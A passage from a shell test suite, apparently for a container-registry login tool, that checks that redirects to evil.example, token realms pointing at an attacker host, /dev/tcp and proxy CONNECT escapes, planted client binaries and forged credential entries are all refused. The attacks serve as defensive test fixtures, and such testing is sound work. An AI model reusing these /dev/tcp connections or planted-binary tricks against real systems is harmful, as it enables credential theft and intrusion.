done
fake leads realm "http://$evil/token"
write_plan leads.json "$address"
for_server "$address"
for name in "${clients[@]}"; do
    : >evil.log
    run leads.json --tool "$name" --allow-insecure-loopback --out t19
    if [ "$without_ports" ]; then
        not_here "this kernel holds a client to no ports, so that it reaches any port of this machine"
    else
        check "T19: $name: another port of this machine is a 1" is 1
        refuse "T19: $name: and gets not one byte" test -s evil.log
    fi
    run leads.json --tool "$name" --allow-insecure-loopback --out t19 --allow-host "$evil"
    check "T19: $name: where it is allowed, it gets the password" robbed
done
for_server "$host"
: >evil.log
client "$(cat <<END
/bin/bash -c 'exec 3<>/dev/tcp/127.0.0.1/${evil##*:} && echo hello >&3 && echo REACHED'
/bin/bash -c 'exec 3<>/dev/tcp/127.0.0.1/\${HTTPS_PROXY##*:}; printf "CONNECT $evil HTTP/1.1\\r\\n\\r\\n" >&3; read -r line <&3; echo "got \$line"'
exit 1
END
)"
run plan.json "${made[@]}" --out t19
check "T19: a client that asks for another host is refused" says 'got HTTP/1.1 403 not a host of the plan'
[ "$without_ports" ] || refuse "T19: and cannot go there without asking" says REACHED
refuse "T19: nothing arrives" test -s evil.log
run plan.json "${tool[@]}" --out t19.plain
check "T19: what is in the plan is reached" is 0
secrets+=(HTTPS_PROXY=socks5://127.0.0.1:1)
run plan.json "${tool[@]}" --network-environment --out t19.plain
check "T19: a proxy that cannot be gone through is refused" is 3
for word in '' http:// 'a b' 'r.example/x' 'u@r.example'; do
    run plan.json "${tool[@]}" --allow-host "$word"
    check "T19: '$word' is no host to allow" is 2
done

threat "T20 a redirect to another host"
fake opens open
open=$address
fake redirects redirect "https://evil.example/v2/"
if ! start_ecr "r.example=$address" || ! internet "$private=$registry" \
    "api.ecr.eu-central-1.amazonaws.com=$api" "r.example=$address" "evil.example=$open"; then
    not_here "openssl or fake_internet (libssl-dev) is not there: no real names"
else
    plan_for "$private"
    for code in 301 302 303 307 308; do
        answer "$code Elsewhere" '{}' "Location: https://evil.example/\r\n"
        log_in
        check "T20: ECR that leads elsewhere ($code) is a 5" is 5
        check "T20: and is asked once" [ "$(calls)" -eq 1 ]
    done
    refuse "T20: no redirect is followed" reached evil.example
    write_plan redirect.json r.example
    for name in "${clients[@]}"; do
        for_server r.example
        secrets+=("${network[@]}")
        : >opens.log && : >internet.log
        run redirect.json --tool "$name" --network-environment --out t20
        check "T20: $name: a login that leads elsewhere is a 1" is 1
        check "T20: $name: the host is named" says 'it leads to evil.example:443'
        refuse "T20: $name: and is not reached" reached evil.example
    done
    refuse "T20: nothing is stored" test -e t20
fi
fake leads redirect "http://$open/v2/"
write_plan leads.json "$address"
for_server "$address"
for name in "${clients[@]}"; do
    [ -z "$without_ports" ] || continue
    : >opens.log
    run leads.json --tool "$name" --allow-insecure-loopback --out t20
    check "T20: $name: to another port of this machine too" is 1
    refuse "T20: $name: which is not reached" test -s opens.log
done
write_plan plan.json "$host"
secrets=("${good[@]}")

threat "T21 a registry that lets anybody in"
fake open open
write_plan open.json "$address"
for_server "$address"
for name in "${clients[@]}"; do
    run open.json --tool "$name" --allow-insecure-loopback --out "t21.$name" --json
    check "T21: $name: the login is stored" is 0
    check "T21: $name: as one that is not verified" grep -q '"result":"unverified"' out
    check "T21: $name: with a warning" says 'the login is not verified'
    run open.json --tool "$name" --allow-insecure-loopback --out "t21.$name.strict" --require-verified
    check "T21: $name: or refused on demand" is 1
    refuse "T21: $name: and then not stored" test -e "t21.$name.strict"
    for_server "$host"
    run plan.json --tool "$name" --allow-insecure-loopback --out "t21.$name" --require-verified
    check "T21: $name: a registry that asks is verified" is 0
    for_server "$address"
done

threat "T22 plain HTTP, and certificates that nobody checks"
write_plan plain.json r.example
for_server http://r.example
run plain.json --tool none --out t22
check "T22: a server that asks for HTTP" is 3
for_server "$host"
: >main.log
run plan.json --tool skopeo --out t22
check "T22: on this machine too, without the flag" is 5
refuse "T22: and nothing is sent" grep -q ' /v2/' main.log
if [ "${clients[*]}" != "${clients[*]/docker/}" ]; then
    run plan.json --tool docker --out t22
    check "T22: docker would check nothing there, and is not called" is 3
fi
client 'echo "called with: $*" >&2; exit 1'
write_plan far.json r.example
for_server r.example
run far.json "${made[@]}" --allow-insecure-loopback --out t22
refuse "T22: the flag is for this machine alone" says tls-verify
write_plan near.json 127.evil.example
for_server 127.evil.example
run near.json "${made[@]}" --allow-insecure-loopback --out t22
refuse "T22: not for a name that begins like it" says tls-verify
for_server "$host"
run plan.json "${made[@]}" --out t22
refuse "T22: and not passed on unasked" says tls-verify
run plan.json "${made[@]}" --allow-insecure-loopback --out t22
check "T22: but asked" says --tls-verify=false
if command -v openssl >/dev/null; then
    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 \
        -subj /CN=localhost -addext subjectAltName=DNS:localhost,IP:127.0.0.1 \
        -keyout key.pem -out cert.pem 2>/dev/null
    serve tls ", tls: {certificate: $work/cert.pem, key: $work/key.pem}"
    write_plan tls.json "$address"
    for_server "$address"
    run tls.json --tool skopeo --out t22.tls
    check "T22: an unknown certificate" is 5
    secrets+=(SSL_CERT_FILE="$work/cert.pem")
    run tls.json --tool skopeo --out t22.tls
    check "T22: the environment makes it no better known" is 5
    run tls.json --tool skopeo --out t22.tls --network-environment
    check "T22: unless it is asked for" is 0
else
    skip_part "T22: TLS: openssl is not installed"
fi

threat "T23 a client that is planted"
mkdir -p planted
printf '#!/bin/sh\ntouch "%s/was-run"\nexit 1\n' "$work" | tee planted/skopeo >skopeo
chmod 755 planted/skopeo skopeo
secrets=("${good[@]}")
env -i PATH="$work/planted:.:/usr/bin:/bin" HOME="$work/home" XDG_RUNTIME_DIR="$work/run" \
    "${secrets[@]}" "$runner" plan.json "${tool[@]}" --out t23 >out 2>error
status=$?
check "T23: in PATH, or here" is 0
refuse "T23: is not run" test -e was-run
rm skopeo
chmod o+w planted/skopeo
run plan.json --tool skopeo --tool-path "$work/planted/skopeo" --out t23
check "T23: one that others may write" is 7
run plan.json --tool skopeo --tool-path planted/skopeo --out t23
check "T23: one that is not named in full" is 2
printf '#!/bin/sh\ntouch "%s/was-run"\n' "$work" >planted/docker-credential-pass
chmod 755 planted/docker-credential-pass
for name in "${clients[@]}"; do
    env -i PATH="$work/planted:/usr/bin:/bin" HOME="$work/home" XDG_RUNTIME_DIR="$work/run" \
        "${secrets[@]}" "$runner" plan.json --tool "$name" --allow-insecure-loopback --out t23 >out 2>error
    status=$?
    check "T23: $name: a keychain that is planted" is 0
    refuse "T23: $name: is not asked" test -e was-run
done

threat "T24 a client that stores more than it was asked"
client "$logs_in"'
printf "{\"auths\":{\"%s\":{\"auth\":\"eDp5\"},\"evil.example\":{\"auth\":\"eDp5\"}}}" "$server" >"$file"'
run plan.json "${made[@]}" --out t24
check "T24: another login" is 3
check "T24: which is named" says "'evil.example'"
client 'read -r password; exit 0'
run plan.json "${made[@]}" --out t24
check "T24: none at all" is 3
client 'read -r password; printf "{" >"$file"'
run plan.json "${made[@]}" --out t24
check "T24: no JSON" is 3
for value in '"x"' '[]' null; do
    client 'read -r password; printf "{\"auths\":{\"%s\":%s}}" "$server" '"'$value'"' >"$file"'
    run plan.json "${made[@]}" --out t24
    check "T24: an entry that is none, $value, which would make the file unreadable" is 3
done
refuse "T24: nothing of it is stored" test -e t24
client "$logs_in"'
echo >"'"$work"'/elsewhere"; exit 0'
run plan.json "${made[@]}" --out t24.held
check "T24: a client that writes elsewhere is run" is 0
if run plan.json --dry-run --tool skopeo && prints 'no Landlock'; then
    not_here "this kernel has no Landlock: a client writes where it may"
else
    refuse "T24: but writes nothing there" test -e elsewhere
fi

threat "T25 a logout that removes somebody else's login"
printf '{"auths": {"x.example": {"auth": "eA=="}}}' >t25
run plan.json "${tool[@]}" --out t25
check "T25: a login is stored" is 0
sed "s/\"auth\": \"$basic\"/\"auth\": \"eDp5\"/; s/\"auth\":\"$basic\"/\"auth\":\"eDp5\"/" t25 >changed && cp changed t25
run plan.json --tool skopeo --logout --out t25
check "T25: one that was changed since" is 3
check "T25: is left" cmp -s t25 changed
check "T25: which is said" says 'left as it is: it is not as it was stored'
run plan.json "${tool[@]}" --out t25
run plan.json --tool skopeo --logout --out t25
check "T25: our own" is 0
check "T25: goes, and the others stay" sh -c 'grep -q x.example t25 && ! grep -q "$1" t25' - "$host"
printf '{"auths": {"%s": {"auth": "%s"}}}' "$host" "$basic" >t25.other
cp t25.other before
run plan.json --tool skopeo --logout --out t25.other
check "T25: the same login, that another has stored" is 3
check "T25: stays" cmp -s t25.other before

refuse "no secret was printed in all of this" holds_secret transcript
close_threat
printf '%s\n' "${table[@]}"
finish
